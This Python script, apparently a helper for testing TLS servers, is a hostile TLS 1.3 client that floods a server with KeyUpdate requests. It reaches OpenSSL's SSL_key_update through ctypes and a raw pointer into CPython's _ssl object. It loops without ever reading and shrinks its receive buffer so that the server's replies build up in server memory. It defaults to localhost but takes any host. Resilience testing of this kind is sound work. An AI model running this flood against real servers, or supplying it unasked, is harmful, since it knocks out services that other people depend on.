#!/usr/bin/env python3
"""A hostile TLS 1.3 client: after the handshake it sends KeyUpdate(update_requested) records as fast
as the socket takes them and never reads, so every answer the server owes piles up on the server.

CPython's ssl module has no KeyUpdate call, so SSL_key_update (OpenSSL 3.0, ssl/ssl_lib.c) is called
through ctypes on the SSL* of the socket's _ssl._SSLSocket object, whose C struct (Modules/_ssl.c,
PySSLSocket) begins with PyObject_HEAD, then `PyObject *Socket`, then `SSL *ssl`. SSL_do_handshake
then writes the queued KeyUpdate (RFC 8446 section 4.6.3).

Prints READY after the handshake and SENT:<count> every 10,000 KeyUpdates, flushed at once.
"""
import argparse
import ctypes
import socket
import ssl
import sys

import _ssl

SSL_KEY_UPDATE_REQUESTED = 1


def main():
    p = argparse.ArgumentParser()
    p.add_argument('--port', type=int, required=True)
    p.add_argument('--host', default='127.0.0.1')
    args = p.parse_args()
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.minimum_version = ctx.maximum_version = ssl.TLSVersion.TLSv1_3
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # A small receive window: what the server sends back waits on the server, not in our kernel.
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    raw.connect((args.host, args.port))
    tls = ctx.wrap_socket(raw, server_hostname='localhost')
    libssl = ctypes.CDLL(_ssl.__file__)  # dlsym searches its dependencies: libssl
    libssl.SSL_key_update.argtypes = [ctypes.c_void_p, ctypes.c_int]
    libssl.SSL_do_handshake.argtypes = [ctypes.c_void_p]
    pointer_size = ctypes.sizeof(ctypes.c_void_p)
    ssl_ptr = ctypes.c_void_p.from_address(id(tls._sslobj) + 3 * pointer_size).value
    print('READY', flush=True)
    sent = 0
    while True:
        if libssl.SSL_key_update(ssl_ptr, SSL_KEY_UPDATE_REQUESTED) != 1:
            print('KEY_UPDATE_FAILED', flush=True)
            return 1
        if libssl.SSL_do_handshake(ssl_ptr) != 1:
            print('CLOSED', flush=True)
            return 0
        sent += 1
        if sent % 10000 == 0:
            print(f'SENT:{sent}', flush=True)


if __name__ == '__main__':
    sys.exit(main())
